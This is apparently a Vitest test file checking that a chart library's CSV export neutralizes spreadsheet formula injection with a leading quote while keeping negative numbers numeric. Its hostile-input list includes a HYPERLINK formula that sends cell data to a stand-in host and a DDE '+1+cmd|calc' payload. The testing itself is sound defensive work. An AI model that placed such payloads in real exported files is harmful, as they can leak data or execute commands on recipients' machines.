/**
 * Issue 11.6: CSV formula injection. A text cell that a spreadsheet would evaluate (= + - @, tab,
 * CR first: an agency name from a manifest) is neutralized per OWASP (a leading ' and quotes);
 * numbers, negative ones included (a change of -18), stay numbers.
 */
import { describe, expect, test } from 'vitest';
import { csvField, specToCsv } from '../../lib/charts/csv';
import type { ChartSpec } from '../../lib/charts/spec';

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点击")', '+1+cmd|calc', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

function spec(categories: string[], data: (number | null)[]): ChartSpec {
  return {
    id: 'compare-volume',
    title: '申请数量',
    subtitle: '',
    layout: 'bar',
    categoryName: '单位',
    categories,
    unit: '件',
    series: [{ name: '变化', color: '#000', format: 'count', data }],
  };
}

/** Rows and fields of a CSV as a spreadsheet reads it (RFC 4180: quoted fields may hold , " CR LF). */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n|$)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(csv)) && m.index < csv.length) {
    row.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
    if (m[2] !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('CSV formula injection', () => {
  test('every hostile category label is written as text a spreadsheet will not evaluate', () => {
    const csv = specToCsv(
      spec(
        HOSTILE,
        HOSTILE.map((_, i) => -18 + i),
      ),
    );
    const rows = parseCsv(csv.replace(/^\uFEFF/, '')).slice(1);
    const labels = rows.map((r) => r[0]);
    const values = rows.map((r) => r[1]);
    expect(labels).toEqual(HOSTILE.map((h) => `'${h}`));
    for (const l of labels) expect(l).not.toMatch(/^[=+\-@\t\r]/);
    expect(values).toEqual(['-18', '-17', '-16', '-15', '-14', '-13']);
  });

  test('fields: numbers stay numbers, plain text unchanged, hostile text quoted with a leading quote', () => {
    expect(csvField(-18)).toBe('-18');
    expect(csvField('-18', 'number')).toBe('-18');
    expect(csvField('12.50', 'number')).toBe('12.50');
    expect(csvField('-18')).toBe(`"'-18"`); // text that looks like a formula is text
    expect(csvField('=1+1', 'number')).toBe(`"'=1+1"`); // not a numeral: treated as text
    expect(csvField('武威市')).toBe('武威市');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('@x')).toBe(`"'@x"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('+x')).toBe(`"'+x"`);
  });
});
